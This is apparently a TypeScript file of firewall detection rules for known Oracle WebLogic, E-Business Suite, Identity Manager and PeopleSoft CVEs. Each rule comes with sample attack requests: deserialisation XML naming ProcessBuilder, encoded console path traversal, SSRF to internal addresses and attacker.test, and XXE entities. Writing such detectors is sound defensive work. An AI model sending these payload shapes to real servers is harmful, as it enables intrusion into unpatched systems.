import { filePost, formPost, get, send, xmlPost } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  fieldHas,
  hasField,
  pathHas,
  queryHas,
  rawPathHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

export const oracleRules = [
  detection({
    ref: 'managed-weblogic-work-context',
    description:
      'WebLogic: creates objects from the XML of a work context (CVE-2017-3506, CVE-2017-10271, CVE-2019-2725, CVE-2019-2729)',
    categories: [
      'oracle',
      'weblogic',
      'deserialization',
      'remote-code-execution',
      'cve-2017-3506',
      'cve-2017-10271',
      'cve-2019-2725',
      'cve-2019-2729',
    ],
    expression: allOf(
      pathHas('/wls-wsat/', '/_async/'),
      bodyHas('workcontext', '<java', '<class>', '<void', 'methodname'),
    ),
    matching: [
      xmlPost(
        '/wls-wsat/CoordinatorPortType',
        '<soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"/></java></work:WorkContext></soapenv:Header>',
      ),
      xmlPost(
        '/_async/AsyncResponseService',
        '<soapenv:Header><work:WorkContext><class><string>x</string></class></work:WorkContext></soapenv:Header>',
      ),
    ],
    other: [
      xmlPost(
        '/services/orders',
        '<soapenv:Envelope><soapenv:Body><order/></soapenv:Body></soapenv:Envelope>',
      ),
      get('/wls-wsat/CoordinatorPortType?wsdl'),
    ],
  }),
  detection({
    ref: 'managed-weblogic-console',
    description:
      'WebLogic: reaches the console without authentication through encoded dots (CVE-2020-14882, CVE-2020-14750)',
    categories: [
      'oracle',
      'weblogic',
      'authentication-bypass',
      'directory-traversal',
      'cve-2020-14882',
      'cve-2020-14750',
    ],
    expression: anyOf(
      allOf(rawPathHas('/console/'), rawPathHas('%252e', '%2e%2e', '..%2f', '%252f', '..;')),
      allOf(
        pathHas('console.portal', '/consolejndi.portal'),
        fieldHas(
          'handle',
          'com.tangosol',
          'com.bea.core.repackaged',
          'java.lang',
          'shellsession',
          'xmlapplicationcontext',
        ),
      ),
    ),
    matching: [
      get('/console/images/%252E%252E%252Fconsole.portal?_nfpb=true&_pageLabel='),
      get(
        '/console/console.portal?_nfpb=true&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22x%22)',
      ),
    ],
    other: [
      get('/console/login/LoginForm.jsp'),
      get('/console/console.portal?_nfpb=true&_pageLabel=HomePage1'),
    ],
  }),
  detection({
    ref: 'managed-weblogic-test-client',
    description:
      'WebLogic: uploads a key store as a script with the test client for web services (CVE-2018-2894)',
    categories: ['oracle', 'weblogic', 'file-upload', 'cve-2018-2894'],
    expression: pathHas('/ws_utc/resources/setting', '/ws_utc/begin.do', '/ws_utc/config.do'),
    matching: [
      filePost('/ws_utc/resources/setting/keystore?timestamp=1', 'a.jsp'),
      get('/ws_utc/config.do'),
      formPost('/ws_utc/resources/setting/options', { 'BasicConfigOptions.workDir': '/tmp' }),
    ],
    other: [get('/ws_utc/css/style.css'), get('/docs/ws_utc')],
  }),
  detection({
    ref: 'managed-weblogic-uddi-explorer',
    description: 'WebLogic: requests internal hosts with the UDDI explorer (CVE-2014-4210)',
    categories: ['oracle', 'weblogic', 'ssrf', 'cve-2014-4210'],
    expression: allOf(
      pathHas('/uddiexplorer/searchpublicregistries.jsp'),
      fieldHas('operator', '://'),
    ),
    matching: [
      get('/uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&operator=http://127.0.0.1:7001'),
      formPost('/uddiexplorer/SearchPublicRegistries.jsp', {
        operator: 'http://10.0.0.3:6379/%0aset',
      }),
    ],
    other: [
      get('/uddiexplorer/SearchPublicRegistries.jsp'),
      get('/uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name'),
    ],
  }),
  detection({
    ref: 'managed-oracle-access-manager',
    description:
      'Oracle Access Manager: a serialised object in an OpenSSO request (CVE-2021-35587)',
    categories: ['oracle', 'deserialization', 'remote-code-execution', 'cve-2021-35587'],
    expression: pathHas('/oam/server/opensso/sessionservice'),
    matching: [
      xmlPost(
        '/oam/server/opensso/sessionservice',
        '<RequestSet><Request>x</Request></RequestSet>',
      ),
      get('/oam/server/opensso/sessionservice'),
    ],
    other: [
      get('/oam/server/obrareq.cgi?encquery=a'),
      formPost('/oam/server/auth_cred_submit', { username: 'ada' }),
    ],
  }),
  detection({
    ref: 'managed-oracle-ebs-configurator',
    description:
      'Oracle E-Business Suite: requests internal pages and loads a style sheet with code (CVE-2025-61882, CVE-2025-61884)',
    categories: [
      'oracle',
      'oracle-ebs',
      'ssrf',
      'remote-code-execution',
      'cve-2025-61882',
      'cve-2025-61884',
    ],
    expression: anyOf(
      allOf(
        pathHas('/oa_html/configurator/uiservlet', '/oa_html/syncservlet'),
        anyOf(bodyHas('return_url'), hasField('return_url'), rawPathHas('..')),
      ),
      rawPathHas('/oa_html/help/../', '/oa_html/help/%2e%2e/'),
    ),
    matching: [
      formPost('/OA_HTML/configurator/UiServlet', {
        redirectFromJsp: '1',
        getUiType:
          '<initialize><param name="return_url">http://attacker.test/</param></initialize>',
      }),
      get('/OA_HTML/help/../ieshostedsurvey.jsp'),
      get('/OA_HTML/configurator/UiServlet?return_url=http://127.0.0.1:7201'),
    ],
    other: [get('/OA_HTML/configurator/UiServlet'), get('/OA_HTML/help/state/content')],
  }),
  detection({
    ref: 'managed-oracle-ebs-upload',
    description:
      'Oracle E-Business Suite: uploads an encoded archive that leaves its folder (CVE-2022-21587)',
    categories: ['oracle', 'oracle-ebs', 'file-upload', 'remote-code-execution', 'cve-2022-21587'],
    expression: allOf(pathHas('/oa_html/bne'), queryHas('bne:uueupload', 'bne%3auueupload')),
    matching: [
      filePost('/OA_HTML/BneUploaderService?bne:uueupload=TRUE', 'x.zip'),
      filePost('/OA_HTML/BneViewerXMLService?bne%3Auueupload=true', 'a.uue'),
    ],
    other: [
      filePost('/OA_HTML/BneUploaderService', 'sheet.xml'),
      get('/OA_HTML/BneApplicationService'),
    ],
  }),
  detection({
    ref: 'managed-oracle-identity-manager',
    description:
      'Oracle Identity Manager: compiles Groovy without authentication behind a suffix of the path (CVE-2025-61757)',
    categories: ['oracle', 'authentication-bypass', 'code-injection', 'cve-2025-61757'],
    expression: allOf(
      pathHas('/iam/governance/'),
      anyOf(rawPathHas(';.wadl', ';.wsdl', ';'), queryHas('wsdl')),
    ),
    matching: [
      send(
        'POST',
        '/iam/governance/applicationmanagement/api/v1/applications/groovyscriptstatus;.wadl',
        'text/plain',
        'x',
      ),
      get('/iam/governance/applicationmanagement/templates;.wadl'),
    ],
    other: [get('/iam/governance/selfservice/api/v1/users'), get('/iam/console')],
  }),
  detection({
    ref: 'managed-oracle-peoplesoft-entity',
    description:
      'Oracle PeopleSoft: reads files and internal pages with XML entities (CVE-2013-3821, CVE-2017-3548)',
    categories: ['oracle', 'xxe', 'cve-2013-3821', 'cve-2017-3548'],
    expression: allOf(pathHas('/psigw/'), bodyHas('<!doctype', '<!entity')),
    matching: [
      xmlPost(
        '/PSIGW/HttpListeningConnector',
        '<?xml version="1.0"?><!DOCTYPE IBRequest [<!ENTITY x SYSTEM "http://127.0.0.1/">]><IBRequest>&x;</IBRequest>',
      ),
      xmlPost(
        '/PSIGW/PeopleSoftServiceListeningConnector',
        '<!DOCTYPE a PUBLIC "-//B/A/EN" "http://attacker.test">',
      ),
    ],
    other: [
      xmlPost(
        '/PSIGW/HttpListeningConnector',
        '<?xml version="1.0"?><IBRequest><From>A</From></IBRequest>',
      ),
      xmlPost('/feed', '<!DOCTYPE rss>'),
    ],
  }),
];
